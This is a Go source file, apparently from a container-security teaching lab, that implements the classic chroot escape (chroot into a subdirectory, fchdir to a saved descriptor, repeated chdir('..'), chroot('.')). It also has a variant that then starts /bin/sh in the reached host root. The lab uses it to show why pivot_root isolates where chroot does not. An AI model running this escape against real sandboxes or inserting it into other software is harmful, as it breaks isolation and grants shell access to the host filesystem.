//go:build linux

package initproc

import (
	"fmt"
	"os"
	"strings"

	"golang.org/x/sys/unix"
)

// runEscape is the chroot-escape program. It runs inside a sandbox (as
// the init program run again through a descriptor the init holds, or as
// /run/kcna/escape in a chroot sandbox) and tries
// the classic climb out of a chroot, printing each step. Under
// RootChroot the host's tree is still mounted behind the jail and the
// climb reaches it; under RootPivot the old root was detached and ".."
// of "/" is "/". The arguments are paths to look for afterwards.
func runEscape(probes []string) int {
	say := func(format string, a ...any) { fmt.Printf(format+"\n", a...) }
	before, _ := listRoot()
	say("inside, / holds: %s", before)

	fd, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		say("open(\"/\"): %v", err)
		return 1
	}
	// Any directory below the root will do as the inner jail; /tmp or
	// /bin exist in every root filesystem kcna-lab builds.
	jail := "/tmp"
	if _, err := os.Stat(jail); err != nil {
		jail = "/bin"
	}
	if err := unix.Chroot(jail); err != nil {
		say("chroot(%q): %v — without CAP_SYS_CHROOT this escape cannot even start", jail, err)
		return 1
	}
	say("chroot(%q): ok, the root is now %s but the working directory is outside it", jail, jail)
	if err := unix.Fchdir(fd); err != nil {
		say("fchdir: %v", err)
		return 1
	}
	say("fchdir(fd of the old /): ok")
	for range 64 {
		if err := unix.Chdir(".."); err != nil {
			say("chdir(\"..\"): %v", err)
			return 1
		}
	}
	say("chdir(\"..\") x 64: ok")
	if err := unix.Chroot("."); err != nil {
		say("chroot(\".\"): %v", err)
		return 1
	}
	after, _ := listRoot()
	say("after the climb, / holds: %s", after)
	escaped := false
	for _, p := range probes {
		if _, err := os.Lstat(p); err == nil {
			say("found %s: ESCAPED — this is the host's filesystem", p)
			escaped = true
		} else {
			say("looked for %s: not here", p)
		}
	}
	if len(probes) == 0 {
		escaped = after != before
	}
	if escaped {
		say("RESULT: escaped the jail")
		return 0
	}
	say("RESULT: still inside — there was nothing above the root to climb to")
	return 3
}

// runEscapeShell is the escape program as a learner runs it: the climb,
// then /bin/sh in the root it reached (the host's, under chroot).
func runEscapeShell() int {
	code := runEscape(nil)
	if code != 0 {
		return code
	}
	fmt.Println("starting /bin/sh with the root it reached; `exit` to go back")
	sh := "/bin/sh"
	err := unix.Exec(sh, []string{"sh"}, os.Environ())
	fmt.Printf("exec %s: %v\n", sh, err)
	return 1
}

func listRoot() (string, error) {
	entries, err := os.ReadDir("/")
	if err != nil {
		return "", err
	}
	names := make([]string, 0, len(entries))
	for _, e := range entries {
		names = append(names, e.Name())
	}
	return strings.Join(names, " "), nil
}
